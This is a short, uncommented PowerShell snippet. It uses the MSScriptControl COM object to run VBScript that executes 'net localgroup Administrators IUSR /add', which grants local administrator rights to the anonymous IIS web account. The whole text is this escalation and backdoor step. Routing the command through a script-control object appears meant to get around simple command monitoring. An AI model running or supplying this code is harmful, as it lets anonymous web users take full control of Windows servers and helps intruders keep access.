$sc = New-Object -ComObject MSScriptControl.ScriptControl
$sc.Language = 'VBScript'
$sc.ExecuteStatement('CreateObject("WScript.Shell").Run "net localgroup Administrators IUSR /add"')
